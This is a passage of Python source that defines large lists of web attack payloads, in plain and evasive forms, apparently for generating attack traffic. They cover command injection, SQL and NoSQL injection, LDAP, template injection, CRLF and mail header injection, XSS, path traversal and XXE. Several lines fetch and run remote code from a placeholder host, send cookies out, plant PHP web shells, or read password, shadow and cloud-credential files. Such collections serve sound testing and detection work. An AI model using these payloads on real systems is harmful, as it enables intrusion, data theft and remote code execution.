    ("q f j", lambda: "& powershell -e " + ps_enc(fill("iex (iwr http://§H/p.ps1 -UseBasicParsing).Content"))),
    ("q f", '127.0.0.1&&cmd /v:on /c "set x=who&& set y=ami&& call !x!!y!"'),
    ("q f j", ";X=$'cat\\x20/etc/passwd'&&$X"),
    ("q f", ";cat</etc/passwd"),
    ("q f j", "8.8.8.8;\tuname\t-a"),
    ("q f j", ";{echo,aWQ=}|{base64,-d}|bash"),
    ("q f j", "|${PATH:0:1}bin${PATH:0:1}cat ${PATH:0:1}etc${PATH:0:1}passwd"),
    ("q f", ";$(tr '[a-z]' '[n-za-m]'<<<vq)"),
    ("h", "() { :;}; echo; /bin/b''ash -c 'cat /etc/passwd'", {"hdr": "Cookie"}),
    (
        "q",
        "127.0.0.1%0a%0dcurl%20§H",
    ),
]

SQLI_N = [
    ("q f j c x", "' OR '1'='1' -- -"),
    ("q f", "admin'-- "),
    ("q f j", "1 UNION SELECT username,password,NULL FROM users-- -"),
    ("q f j h", "1' AND SLEEP(5)-- -"),
    ("q f", "1); WAITFOR DELAY '0:0:5'--"),
    ("q f j", "' AND extractvalue(1,concat(0x7e,(SELECT user())))-- -"),
    ("q f", "1 AND 1=CONVERT(int,(SELECT TOP 1 name FROM sysobjects WHERE xtype='U'))"),
    ("q j", "'||pg_sleep(5)--"),
    ("q f p", "1' ORDER BY 12-- -"),
    ("q f", "' UNION SELECT NULL,banner,NULL FROM v$version--"),
    ("q f", "1; DROP TABLE sessions--"),
    ("q f j", "1'; EXEC xp_cmdshell 'whoami'--"),
    ("q f", "' UNION SELECT name,sql FROM sqlite_master--"),
    ("q f", "1 AND 1=DBMS_PIPE.RECEIVE_MESSAGE('x',5)"),
    (
        "q j",
        "(CASE WHEN (SELECT SUBSTRING(password,1,1) FROM users WHERE username='admin')='a' THEN price ELSE name END)",
        {"pn": "sort"},
    ),
    (
        "q f",
        "1 AND (SELECT 1 FROM (SELECT COUNT(*),CONCAT((SELECT database()),FLOOR(RAND(0)*2))x FROM information_schema.tables GROUP BY x)a)",
    ),
    ("q f", "' UNION SELECT LOAD_FILE('/etc/passwd'),2-- -"),
    ("q f", "' UNION SELECT '<?php system($_GET[1]);?>' INTO OUTFILE '/var/www/html/s.php'-- -"),
    ("q f c h", "1' AND (SELECT 5423 FROM (SELECT(SLEEP(5)))abc)-- -"),
    ("q j", "'; COPY (SELECT '') TO PROGRAM 'curl http://§H/x|sh'--"),
    ("h", "127.0.0.1' AND SLEEP(5)#", {"hdr": "X-Forwarded-For"}),
    ("c", "x' AND 1=2 UNION SELECT session_token,NULL FROM admin_sessions-- -", {"pn": "tracking_id"}),
    ("jk", "email\" = '' OR 1=1 --", {"pn": "where"}),
    ("jk", "created_at DESC; SELECT pg_sleep(5)--", {"pn": "order"}),
    ("qk", "filter[name') OR 1=1--]", {"val": "x"}),
    ("m", "1' OR '1'='1"),
    ("x", "1 OR 1=1"),
    ("p", "1 UNION SELECT NULL,version()--", {"ptpl": "/api/v2/orders/{P}"}),
]
SQLI_H = [
    ("q f", "1 /*!50000UNION*/ /*!50000SELECT*/ user,password FROM mysql.user-- -"),
    (
        "q f j",
        "-1' UnIoN\nSeLeCt 1,group_concat(table_name),3 FROM information_schema.tables WHERE table_schema=database()-- -",
    ),
    ("q f", "1'/**/oR/**/2>1#"),
    ("q f j", "' or 1 like 1-- -"),
    ("q f", "' OR username=CHAR(97,100,109,105,110)-- -"),
    ("q f", "-1.0union select null,concat(user,0x3a,password),null from users-- -"),
    ("q f j", "1 AND IF(ASCII(SUBSTRING((SELECT password FROM users LIMIT 1),1,1))>64,BENCHMARK(5000000,MD5(1)),0)"),
    ("q f", lambda: "1;DECLARE @q VARCHAR(99);SET @q=0x%s;EXEC(@q)--" % "WAITFOR DELAY '0:0:5'".encode().hex()),
    ("q f j", "';SELECT CASE WHEN (SELECT current_setting($$is_superuser$$))=$$on$$ THEN pg_sleep(5) END--"),
    ("q f", "'||(SELECT CHR(65)||CHR(66)||(SELECT password FROM users WHERE id=1))||'"),
    ("q", "\xbf' OR 1=1-- -", {"latin": True, "pn": "username"}),
    ("f", " OR 1=1-- -", {"pn": "password", "form": [("username", "\\"), ("password", MARK)], "path": "/online/login"}),
    ("f", "'='", {"form": [("username", MARK), ("password", "'='")], "path": "/online/login"}),
    ("j", "' OR '1'='1", {"enc": "u"}),
    ("q f", "1%27%20UNION%20SELECT%20password%20FROM%20users--%20-"),
    ("q f j", "' OR JSON_EXTRACT('{\"a\":1}','$.a')=1-- -"),
    ("q f", "' OR '{\"b\":2}'::jsonb @> '{\"b\":2}'::jsonb--"),
    ("q f", "' UNION SELECT * FROM (SELECT 1)a JOIN (SELECT 2)b JOIN (SELECT password FROM users)c-- -"),
    ("c", b64("1' OR '1'='1"), {"pn": "uid_b64"}),
    ("q f", "\uff07 OR 1=1-- -"),
    ("h", "1'XOR(if(now()=sysdate(),sleep(5),0))XOR'Z", {"hdr": "Referer"}),
    ("x", "1' or '1'='1", {"enc": "ref"}),
    ("q f", "1 AnD 1=1 aNd (SeLeCt 1 FrOm dual wHeRe 1=1 rLiKe sLeEp(4))"),
]

NOSQL_N = [
    ("j", 'JSON:{"$ne":null}', {"pn": "password"}),
    ("j", 'JSON:{"$gt":""}', {"pn": "password"}),
    ("j", 'JSON:{"$regex":"^§U"}', {"pn": "username"}),
    ("j", 'JSON:{"$in":["admin","root","administrator"]}', {"pn": "username"}),
    ("j", 'JSON:{"$exists":true}', {"pn": "reset_token"}),
    ("j", 'JSON:{"$where":"this.role == \'admin\' || sleep(3000)"}', {"pn": "filter"}),
    ("j", 'JSON:{"$or":[{"role":"admin"},{"_id":{"$exists":true}}]}', {"pn": "filter"}),
    (
        "j",
        'JSON:{"$expr":{"$function":{"body":"function(){ return sleep(4000) || true }","args":[],"lang":"js"}}}',
        {"pn": "query"},
    ),
    ("qk", "username[$ne]", {"val": "x"}),
    ("qk", "password[$regex]", {"val": ".*"}),
    ("qk", "user[$gt]", {"val": ""}),
    ("qk", "token[$exists]", {"val": "true"}),
    ("fk", "password[$ne]", {"val": "wrong"}),
    ("fk", "email[$regex]", {"val": "^a.*@corp"}),
    ("q f", "'; return true; var x='"),
    ("q f", "§U' || 'a'=='a"),
    ("q j", "0;return true"),
    ("c", 'j:{"$ne":null}', {"pn": "auth_token"}),
    ("jk", "$where", {"pn": "filter", "val": "sleep(§N) || true"}),
    ("jk", "$ne", {"pn": "password", "val": "nope"}),
    ("jk", "$gt", {"pn": "balance", "val": ""}),
]
NOSQL_H = [
    ("j", 'JSON:{"$ne":"§R"}', {"pn": "password", "enc": "u"}),
    ("j", 'JSON:{"$nin":[""]}', {"pn": "password"}),
    ("j", 'JSON:{"$regex":".{0,}"}', {"pn": "password"}),
    ("j", 'JSON:{"$gte":" "}', {"pn": "pin"}),
    ("j", 'JSON:{"$expr":{"$eq":[1,1]}}', {"pn": "filter"}),
    ("j", 'JSON:{"$jsonSchema":{}}', {"pn": "filter"}),
    ("qk", "password[$ne]", {"enc": "full", "val": "1"}),
    ("qk", "user[$in][]", {"val": "admin"}),
    ("q f", "'||sleep(§N)||'"),
    ("q f", "'; while(true){}; var x='"),
    ("fk", "login[$regex]", {"val": "^a", "enc": "full"}),
    ("c", 'j:{"username":{"$gt":""}}', {"pn": "prefs"}),
    ("j", 'JSON:{"\u0024ne":"§R"}', {"pn": "token", "enc": "u"}),
    ("j", 'JSON:{"$not":{"$type":"null"}}', {"pn": "otp"}),
    (
        "j",
        'JSON:{"$where":"function(){var d=new Date();do{var c=new Date();}while(c-d<5000);return true;}"}',
        {"pn": "criteria"},
    ),
    ("jk", "$where", {"pn": "filter", "val": "this.password.match(/^a/)", "deep": True}),
    ("j", 'JSON:{"$elemMatch":{"$ne":null}}', {"pn": "roles"}),
    ("qk", "role[$nin][]", {"val": "guest"}),
    ("f", "true, $where: '1 == 1'", {"pn": "active"}),
]
COUCH_BODY = '{"type":"user","name":"%s","roles":["_admin"],"roles":[],"password":"%s"}'

LDAP_N = [
    ("q f j c", "*)(uid=*))(|(uid=*"),
    ("q f", "§U)(&)"),
    ("q f j", "*)(|(§A=*))"),
    ("q f j x", "*)(objectClass=*"),
    ("q f", "§U)(|(§A=*)"),
    ("q f j", "§U)(|(memberOf=CN=Domain Admins,CN=Users,DC=corp,DC=local)"),
    ("q f", "*)(§A=a*"),
    ("q f j m", "§U*)(|(cn=*)"),
    ("q f", "§U))(|(objectClass=*"),
    ("q f j", "*))(|(§A=*"),
    ("q f", "*)(mail=*@corp-mail.example"),
    ("q f", ")(!(cn=x)"),
    ("q f", "§U)(!(|(uid=nobody)"),
    ("q f j", "*)(§A=*pass*"),
    ("q f", "*)(&(objectClass=person)(telephoneNumber=*"),
    ("q f", ")(uid=*))\x00"),
    ("h", "*)(uid=*))(|(uid=*", {"hdr": "X-Remote-User"}),
    ("h", "§U)(|(objectClass=*)", {"hdr": "X-Forwarded-User"}),
    ("x", "*)(|(uid=*)"),
]
LDAP_H = [
    ("q f", "%2a%29%28uid%3d%2a%29%29%28%7c%28uid%3d%2a"),
    ("j", "*)(uid=*))(|(uid=*", {"enc": "u"}),
    ("q f", "*)(|(objectClass=*", {"enc": "full"}),
    ("x", "§U)(|(cn=*)", {"enc": "ref"}),
    ("q f", "§U*)(|(uid=a*"),
    ("q f j", "*)(userAccountControl:1.2.840.113556.1.4.803:=2"),
    ("q f", "*)(pwdLastSet>=0"),
    ("q f", "*)(|(cn~=admin"),
    ("q f", "*)(uid:dn:=*"),
    ("q f j", "*)(&)"),
    ("q f", "§U)(|(&))"),
    ("c", "*)(|(§A=*", {"enc": "full"}),
    ("q f", "*%29%28%7C%28objectClass%3D%2A"),
    ("q f", "*)(\x00"),
    ("q f j", "*)(|(&(objectCategory=computer)(operatingSystem=*server*"),
    ("h", "*)(%26(objectClass=user)(sAMAccountName=*", {"hdr": "X-Auth-User"}),
    ("q f", "§U)(|(userPassword:2.5.13.18:=\\70\\61*"),
    ("f", "*)(uid=*))(|(uid=*", {"enc": "full"}),
]

SSTI_N = [
    ("q f j", "{{config.__class__.__init__.__globals__['os'].popen('§C').read()}}"),
    ("q f j c", "{{ cycler.__init__.__globals__.os.popen('§C').read() }}"),
    ("q f j", "{{request.application.__globals__.__builtins__.__import__('os').popen('§C').read()}}"),
    (
        "f j m",
        "{% for c in [].__class__.__base__.__subclasses__() %}{% if c.__name__=='catch_warnings' %}{{ c.__init__.__globals__['__builtins__'].eval(\"__import__('os').popen('§C').read()\") }}{% endif %}{% endfor %}",
    ),
    ("q f j", '{{_self.env.registerUndefinedFilterCallback("exec")}}{{_self.env.getFilter("§C")}}'),
    ("q f j h", "{{['§C']|filter('system')}}"),
    ("q f j", "{{['cat /etc/passwd']|map('system')|join}}"),
    ("q f j x", '<#assign ex="freemarker.template.utility.Execute"?new()>${ex("§C")}'),
    ("q f j", '${"freemarker.template.utility.Execute"?new()("§C")}'),
    (
        "f j",
        "#set($x='')#set($rt=$x.class.forName('java.lang.Runtime'))#set($ex=$rt.getRuntime().exec('§C'))$ex.waitFor()",
    ),
    ("q p", "__${T(java.lang.Runtime).getRuntime().exec('§C')}__::.x", {"pn": "lang"}),
    ("q f j", "<%= `§C` %>"),
    ("q f j", "<%= File.read('/etc/passwd') %>"),
    ("q f", "{system('§C')}"),
    (
        "f j",
        "{Smarty_Internal_Write_File::writeFile($SCRIPT_NAME,\"<?php passthru($_GET['c']); ?>\",self::clearConfig())}",
    ),
    ("q f j", "<% import os; x=os.popen('§C').read() %>${x}"),
    ("q f j", "${self.module.cache.util.os.system('§C')}"),
    ("q f j", "{% import os %}{{ os.popen('§C').read() }}"),
    (
        "j mf",
        '{{#with "s" as |string|}}{{#with "e"}}{{#with split as |conslist|}}{{this.pop}}{{this.push (lookup string.sub "constructor")}}{{this.pop}}{{#with string.split as |codelist|}}{{this.pop}}{{this.push "return require(\'child_process\').execSync(\'§C\');"}}{{this.pop}}{{#each conslist}}{{#with (string.sub.apply 0 codelist)}}{{this}}{{/with}}{{/each}}{{/with}}{{/with}}{{/with}}{{/with}}',
        {"fn": "email_template.hbs", "fct": "text/x-handlebars-template"},
    ),
    (
        "q f j",
        "#{function(){localLoad=global.process.mainModule.constructor._load;sh=localLoad('child_process').exec('§C')}()}",
    ),
    ("q f j", "{{range.constructor(\"return global.process.mainModule.require('child_process').execSync('§C')\")()}}"),
    ("q f j", "<%= global.process.mainModule.require('child_process').execSync('§C') %>"),
    ("q f j", '@System.Diagnostics.Process.Start("cmd.exe","/c §W")'),
    ("q f", "{{ settings.SECRET_KEY }}"),
    ("h", "{{ self.__init__.__globals__.__builtins__.__import__('os').popen('§C').read() }}", {"hdr": "User-Agent"}),
]
SSTI_H = [
    (
        "q f j",
        "{{ request|attr('application')|attr('\\x5f\\x5fglobals\\x5f\\x5f')|attr('\\x5f\\x5fgetitem\\x5f\\x5f')('\\x5f\\x5fbuiltins\\x5f\\x5f')|attr('\\x5f\\x5fgetitem\\x5f\\x5f')('\\x5f\\x5fimport\\x5f\\x5f')('os')|attr('popen')('§C')|attr('read')() }}",
    ),
    ("q f j", '{{ lipsum.__globals__["o"+"s"].popen("§C").read() }}'),
    ("q f", '{%print(lipsum|attr("__globals__")|attr("__getitem__")("os")|attr("popen")("§C")|attr("read")())%}'),
    (
        "q",
        "{{()|attr(request.args.c)|attr(request.args.b)|attr(request.args.s)()|attr(request.args.g)(132)|attr(request.args.i)|attr(request.args.gl)|attr(request.args.gi)(request.args.o)|attr(request.args.p)(request.args.cmd)|attr(request.args.r)()}}",
        {
            "ex": [
                ("c", "__class__"),
                ("b", "__base__"),
                ("s", "__subclasses__"),
                ("g", "__getitem__"),
                ("i", "__init__"),
                ("gl", "__globals__"),
                ("gi", "__getitem__"),
                ("o", "os"),
                ("p", "popen"),
                ("cmd", "§C"),
                ("r", "read"),
            ]
        },
    ),
    (
        "q f j",
        '{{ config|attr("\\u005f\\u005fclass\\u005f\\u005f")|attr("\\u005f\\u005finit\\u005f\\u005f")|attr("\\u005f\\u005fglobals\\u005f\\u005f") }}',
    ),
    ("q f", "{%25 import os %25}{{ os.popen('§C').read() }}"),
    ("q f j", '${"freemarker.template.utility.ObjectConstructor"?new()("java.lang.ProcessBuilder","§X").start()}'),
    (
        "q f j",
        "*{T(org.apache.commons.io.IOUtils).toString(T(java.lang.Runtime).getRuntime().exec(new String[]{'/bin/sh','-c','§C'}).getInputStream())}",
    ),
    ("f j", '$class.inspect("java.lang.Runtime").type.getRuntime().exec("§C").waitFor()'),
    ("q f j", "{{['§X',0]|sort('system')}}"),
    ("q f", "{{'/etc/passwd'|file_excerpt(1,30)}}"),
    ("q f j c", "{{ joiner.__init__.__globals__.os.popen('§C').read() }}"),
    ("q f j", "{{namespace.__init__.__globals__.os.popen('§C').read()}}"),
    ("j", "{{ cycler.__init__.__globals__.os.popen('§C').read() }}", {"enc": "u"}),
    ("x", '<#assign ex="freemarker.template.utility.Execute"?new()>${ex("§C")}', {"enc": "ref"}),
    ("q f", "{{ ''.__class__.__mro__[1].__subclasses__()[408]('§C',shell=True,stdout=-1).communicate() }}"),
    ("q f j", '{{"".constructor.constructor("return process")().mainModule.require("child_process").execSync("§C")}}'),
    (
        "p",
        "__${new java.util.Scanner(T(java.lang.Runtime).getRuntime().exec('§X').getInputStream()).next()}__::.x",
        {"ptpl": "/doc/{P}"},
    ),
    ("q f j", "{{ x.__init__.__globals__['__builtins__']['ev'~'al']('__imp'~'ort__(\"os\").popen(\"§C\").read()') }}"),
    ("q f", "%7B%7B7*7%7D%7D%7B%7Bconfig.__class__.__init__.__globals__%5B'os'%5D.popen('§C').read()%7D%7D"),
]

CRLF_N = [
    ("q f j c p", "/dashboard\r\nSet-Cookie: session=§R; Path=/; HttpOnly"),
    ("q f", "en\r\nX-XSS-Protection: 0\r\n\r\n<script>alert(document.cookie)</script>", {"pn": "lang"}),
    ("q j", "https://shop.acme-retail.com/\r\nLocation: http://§H/phish"),
    (
        "q f",
        "report.csv\r\nContent-Type: text/html\r\n\r\n<html><script>fetch('//§H/?c='+document.cookie)</script>",
        {"pn": "filename"},
    ),
    ("q f j", "/\r\nAccess-Control-Allow-Origin: http://§H\r\nAccess-Control-Allow-Credentials: true"),
    (
        "q f",
        "x\r\nContent-Length: 0\r\n\r\nHTTP/1.1 200 OK\r\nContent-Type: text/html\r\nContent-Length: 25\r\n\r\n<script>alert(1)</script>",
    ),
    ("q c", "/\nSet-Cookie: csrftoken=§R"),
    (
        "f j",
        "jdoe\n2024-05-01 12:00:01 INFO [auth] User admin logged in successfully from 10.0.0.5",
        {"pn": "username"},
    ),
    ("p", "items\r\n\r\nGET /admin/users HTTP/1.1\r\nHost: internal-admin", {"ptpl": "/api/proxy/{P}"}),
    ("qk", "\r\nSet-Cookie: admin=true", {"noeq": True}),
    ("m", "ok\r\nBcc-Log: none\r\nX-Injected: 1"),
    ("h", "§R%0d%0aSet-Cookie:%20admin=true", {"hdr": "X-Request-Id"}),
    ("h", "shop.acme-retail.com%0d%0aX-Original-URL:%20/admin", {"hdr": "X-Forwarded-Host"}),
    ("q f", "index.html\r\nRefresh: 0; url=http://§H/"),
    ("x", "done\r\nSet-Cookie: tracking=§R"),
    ("q j", "/login?next=/\r\nX-Frame-Options: ALLOWALL"),
    ("j", "\r\nContent-Security-Policy: script-src *", {"pn": "return_to"}),
]
CRLF_H = [
    ("q f", "/home%0d%0aSet-Cookie:%20sess=§R"),
    ("q f j", "/\u560a\u560dSet-Cookie: pwn=§R"),
    ("q f", "/%E5%98%8A%E5%98%8DLocation:%20http://§H/"),
    ("q f", "/%c0%8d%c0%8aSet-Cookie:%20a=1"),
    ("q f", "/\rSet-Cookie: crlf=1"),
    ("q f", "/%u000d%u000aSet-Cookie:%20x=1"),
    ("j", "/\r\nSet-Cookie: a=§R", {"enc": "u"}),
    ("h", "§R%0D%0ASet-Cookie:%20sid=attacker", {"hdr": "X-Correlation-Id"}),
    ("h", "https://shop.acme-retail.com/%0d%0a%0d%0a<script>alert(1)</script>", {"hdr": "Referer"}),
    ("c", "en%0d%0aSet-Cookie:%20role=admin", {"pn": "locale"}),
    ("q f", "/x\r\n\tSet-Cookie: folded=1"),
    ("q f", "/%%0d0aSet-Cookie:%20a=b"),
    ("q", "/\r\nSet-Cookie: a=b", {"enc": "full"}),
    ("x", "/\r\nLocation: http://§H/", {"enc": "ref"}),
    ("q f", "%0AHost:%20§H%0A%0AGET%20/admin%20HTTP/1.1"),
    ("q f", "/%23%0d%0aSet-Cookie:%20x=1"),
    ("c", "/\r\nSet-Cookie: role=admin", {"enc": "full", "pn": "return_path"}),
    ("q f", "/\n\nHTTP/1.1 200 OK\nContent-Type: text/html\n\n<svg onload=alert(1)>"),
    ("qk", "%0d%0aSet-Cookie:%20a=1", {"noeq": True}),
]

MAIL_N = [
    ("f j m", "attacker@§H\r\nBcc: victim1@example.org,victim2@example.net", {"pn": "email"}),
    ("f j", "Order question\r\nBcc: list@§H", {"pn": "subject"}),
    ("f j x", "John\r\nContent-Type: text/html\r\n\r\n<a href=http://§H/reset>Reset your password</a>", {"pn": "name"}),
    ("f q", "user@example.com\nCc: everyone@corp-mail.example", {"pn": "from"}),
    ("f j", '"attacker\\" -oQ/tmp/ -X/var/www/html/shell.php some"@email.com', {"pn": "email"}),
    ("f j", "-OQueueDirectory=/tmp -X/var/www/html/cache/rce.php", {"pn": "sender"}),
    ("f j", "§E>\r\nRCPT TO:<spam1@§H>\r\nDATA\r\nSubject: hi\r\n\r\nspam\r\n.\r\nQUIT", {"pn": "to"}),
    ("q f", "INBOX\r\nA002 DELETE INBOX.Sent", {"pn": "mailbox"}),
    ("f j", "${run{\\x2fbin\\x2fsh\\t-c\\t\\x22wget\\x20http://§H/x\\x20-O\\x20/tmp/x\\x22}}@localhost", {"pn": "to"}),
    ("f j m", "support@acme-retail.com\r\nReply-To: §E\r\nX-Mailer: bulk", {"pn": "reply_to"}),
    (
        "f j",
        "hello@example.com\r\nSubject: Your account is suspended\r\n\r\nClick http://§H/login",
        {"pn": "contact_email"},
    ),
    ("h", "support@acme-retail.com%0d%0aBcc:%20§E", {"hdr": "X-Reply-To"}),
    ("f j", "Feedback\nTo: §E\nBcc: §E", {"pn": "subject"}),
    ("x", "newsletter@example.com\r\nBcc: §E", {"pn": "email"}),
    ("q f j", "a@example.com\r\nContent-Transfer-Encoding: base64\r\n\r\nPGgxPmhhY2tlZDwvaDE+", {"pn": "cc"}),
]
MAIL_H = [
    ("f q", "attacker@§H%0d%0aBcc:%20§E"),
    ("f j", "user@example.org\nbcc: §E"),
    ("f j", "user@example.org\rCc: §E"),
    ("f j", lambda: "=?UTF-8?B?%s?=" % b64(fill("Hi\r\nBcc: §E"))),
    ("j", "a@example.org\r\nBcc: §E", {"enc": "u"}),
    ("f", "a@example.org\r\nBcc: §E", {"enc": "full"}),
    ("f j", "me@example.org\r\n Bcc: §E"),
    (
        "f j",
        "note\n.\r\nMAIL FROM:<ceo@northbridge-bank.com>\r\nRCPT TO:<§E>\r\nDATA\r\nFrom: CEO <ceo@northbridge-bank.com>\r\n\r\nWire the funds today.\r\n.\r\n",
        {"pn": "message"},
    ),
    ("f j", "me@example.org\x00\r\nBcc: §E"),
    ("f", "x@example.org%0ABcc:§E"),
    ("x", "x@example.org\r\nBcc: §E", {"enc": "ref"}),
    ("f j", '"Support\\"\r\nBcc: §E\r\nX:" <support@acme-retail.com>'),
    ("f j", "a@b.example -X/var/www/html/x.php -OQueueDirectory=/tmp", {"pn": "email"}),
    ("f j", "Alice\u0085Bcc: §E"),
    ("q", 'INBOX"\r\nA003 CREATE "INBOX.owned', {"pn": "folder"}),
    ("f j", "victim@example.org%0D%0ABcc:%20§E%0D%0A%0D%0Aspam"),
    ("m", "a@example.org\r\nBcc: §E"),
    ("f j", "x@example.org\r\nbCc: §E\r\ncontent-type: text/html"),
]

XSS_N = [
    ("q f j c", "<script>alert(document.domain)</script>"),
    ("q f j x", "<img src=x onerror=fetch('//§H/?c='+document.cookie)>"),
    ("q f j", "<svg onload=alert(1)>"),
    ("q f", '"><script src=//§H/x.js></script>'),
    ("q j", "javascript:alert(document.cookie)", {"pn": "redirect"}),
    ("q f", "';alert(document.domain);//"),
    ("f j", "</textarea><script>new Image().src='//§H/?'+document.cookie</script>"),
    ("q f j", '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>'),
    ("q f", "<details open ontoggle=alert(1)>"),
    ("q f j", "<body onpageshow=alert(1)>"),
    ("j f", '<a href="javascript:alert(1)">click</a>'),
    ("q f", "<input autofocus onfocus=alert(1)>"),
    ("j f", "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>"),
    ("q f", "<svg><animate onbegin=alert(1) attributeName=x dur=1s>"),
    ("q f j", "<video><source onerror=alert(1)>"),
    ("q f", "{{constructor.constructor('alert(1)')()}}"),
    ("j", "[click me](javascript:alert(document.cookie))", {"pn": "comment"}),
    ("q f", '<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="></object>'),
    ("q f", "<base href=//§H/>"),
    ("q f j", '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">'),
    ("h", "<script>alert(1)</script>", {"hdr": "Referer", "hpre": "https://www.google.com/?q="}),
    ("h", "<img src=x onerror=alert(1)>", {"hdr": "User-Agent"}),
    ("mfn", "<img src=x onerror=alert(document.domain)>.png"),
    ("qk", "<script>alert(1)</script>"),
    ("jk", "<img src=x onerror=alert(1)>"),
    ("p", "<svg onload=alert(1)>", {"ptpl": "/search/{P}"}),
    ("m", "<script>alert(1)</script>"),
    (
        "mf",
        '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(document.domain)</script></svg>',
        {"fn": "logo.svg", "fct": "image/svg+xml"},
    ),
]
XSS_H = [
    ("q f", "<sCrIpT>alert(1)</ScRiPt>"),
    ("q f j", "<img/src=x/onerror=alert(1)>"),
    ("q f", "<svg/onload=alert`1`>"),
    ("q f j", '<a href="&#x6a;avascript&#x3a;alert(1)">x</a>'),
    ("q f", '<a href="jav&#x09;ascript:alert(1)">x</a>'),
    ("q f j", "<img src=x onerror=\\u0061lert(1)>"),
    ("q f j", lambda: "<img src=x onerror=eval(atob('%s'))>" % b64(fill("fetch('//§H/?c='+document.cookie)"))),
    ("q f", '<iframe src="data:text/html;base64,PHNjcmlwdD5hbGVydChkb2N1bWVudC5kb21haW4pPC9zY3JpcHQ+"></iframe>'),
    ("q f", "%3Cscript%3Ealert(1)%3C%2Fscript%3E"),
    ("q f", "\\x3cscript\\x3ealert(1)\\x3c/script\\x3e", {"pn": "callback"}),
    ("q f j", "<svg><script>&#97;lert(1)</script></svg>"),
    ("q f", "<img src=x onerror=top['al'+'ert'](1)>"),
    ("q f", "<img src=x onerror=window['ev'+'al']('ale'+'rt(1)')>"),
    ("q f j", "<img src=x onerror=[].constructor.constructor('alert(1)')()>"),
    ("q f", "<img src=x onerror=location='javas'+'cript:alert(1)'>"),
    ("q f", "%C0%BCscript%C0%BEalert(1)%C0%BC/script%C0%BE"),
    ("q f j", "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e"),
    ("f j", '<noscript><p title="</noscript><img src=x onerror=alert(1)>">'),
    ("q f", "<!--><svg onload=alert(1)>"),
    ("q f", '<img src="x" onerror="&#x61;&#x6c;&#x65;&#x72;&#x74;(1)">'),
    ("q f", '" autofocus onfocus=alert(1) x="'),
    ("j", "<script>alert(1)</script>", {"enc": "u"}),
    ("x", "<img src=x onerror=alert(1)>", {"enc": "ref"}),
    ("q f", '<a href=" &#14; javascript:alert(1)">x</a>'),
    ("q f", "<svg><a><animate attributeName=href values=javascript:alert(1) /><text x=20 y=20>click</text></a>"),
    ("c", "<script>alert(1)</script>", {"enc": "full"}),
    ("q f", "<x contenteditable onblur=alert(1)>lose focus"),
]

PT_N = [
    ("q f j c x", "§D§F"),
    ("q f", "§Bwindows\\win.ini"),
    ("q f j", "/etc/passwd"),
    ("q f", lambda: "....//" * ri(3, 8) + "etc/passwd"),
    ("p", "§D" + "etc/passwd", {"ptpl": "/static/{P}"}),
    ("p", "..;/manager/html", {"ptpl": "/app/{P}"}),
    ("p", "..%2f..%2fWEB-INF/web.xml", {"ptpl": "/static/{P}"}),
    ("q f", "§Dproc/self/environ"),
    ("q f j", "C:\\Windows\\System32\\drivers\\etc\\hosts"),
    ("q f", "../../../../etc/passwd\x00.png"),
    ("q f j", "/var/www/html/../../../etc/shadow"),
    ("mfn", "../../../../var/www/html/shell.php"),
    ("mfn", "..\\..\\..\\inetpub\\wwwroot\\cmd.aspx"),
    ("h", "§D" + "etc/passwd", {"hdr": "X-Template"}),
    ("h", "/../../../../etc/passwd", {"hdr": "X-Original-URL"}),
    ("c", "§D" + "etc/passwd", {"pn": "lang"}),
    ("x", "§D" + "etc/passwd"),
    ("qk", "§D" + "etc/passwd", {"noeq": True}),
    ("j", "§D.git/config"),
    ("q f", "§Droot/.bash_history"),
    ("j", "§Dvar/log/nginx/access.log", {"pn": "log"}),
    ("q f", "file:///etc/passwd"),
    ("p", "§D" + "etc/passwd", {"ptpl": "/api/files/{P}/download"}),
    ("m", "§D" + "etc/passwd"),
]
PT_H = [
    ("q f", lambda: "..%2f" * ri(3, 8) + "etc%2fpasswd"),
    ("q f", "%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fpasswd"),
    ("q f", lambda: "..%252f" * ri(3, 8) + "etc%252fpasswd"),
    ("q f", "..%c0%af..%c0%af..%c0%afetc%c0%afpasswd"),
    ("q f", "..%u2216..%u2216..%u2216windows%u2216win.ini"),
    ("q f j", "..././..././..././etc/passwd"),
    ("q f", "..\\/..\\/..\\/etc/passwd"),
    ("p", "..%5c..%5c..%5cwindows%5cwin.ini", {"ptpl": "/assets/{P}"}),
    ("p", "../../etc/nginx/nginx.conf", {"ptpl": "/assets{P}"}),
    ("q f", "\uff0e\uff0e\uff0f\uff0e\uff0e\uff0f\uff0e\uff0e\uff0fetc\uff0fpasswd"),
    ("q f", "\\\\?\\C:\\Windows\\win.ini"),
    ("q f j", "/.%2e/.%2e/.%2e/etc/passwd"),
    ("q", "§D" + "etc/passwd", {"enc": "full"}),
    ("j", "../../../../etc/shadow", {"enc": "u"}),
    ("x", "§D" + "etc/passwd", {"enc": "ref"}),
    ("c", "§D" + "etc/passwd", {"enc": "full", "pn": "template"}),
    ("q f", "..%00/..%00/..%00/etc/passwd"),
    ("q f", "/%5C../%5C../%5C../etc/passwd"),
    ("q f", "....\\\\....\\\\....\\\\windows\\\\win.ini"),
    ("p", ".%2e/.%2e/.%2e/.%2e/etc/passwd", {"ptpl": "/cgi-bin/{P}"}),
    ("mfn", "..%2f..%2f..%2fvar%2fwww%2fhtml%2fx.php"),
    ("q f", "/proc/self/cwd/config/secrets.yml"),
]


def xxe_doc(kind):
    h = fill("§H")
    f = fill("§F")
    root = ch(["foo", "order", "invoice", "user", "request", "data", "catalog"])
    if kind == 0:
        return (
            '<?xml version="1.0" encoding="UTF-8"?>\n<!DOCTYPE %s [<!ENTITY xxe SYSTEM "file://%s">]>\n<%s><name>&xxe;</name></%s>'
            % (root, f, root, root)
        )
    if kind == 1:
        return (
            '<?xml version="1.0"?><!DOCTYPE data [<!ENTITY %% remote SYSTEM "http://%s/evil.dtd"> %%remote; %%int; %%trick;]><data>x</data>'
            % h
        )
    if kind == 2:
        return '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY m SYSTEM "http://169.254.169.254/latest/meta-data/iam/security-credentials/">]><r><id>&m;</id></r>'
    if kind == 3:
        return '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY s SYSTEM "php://filter/convert.base64-encode/resource=/var/www/html/config.php">]><r>&s;</r>'
    if kind == 4:
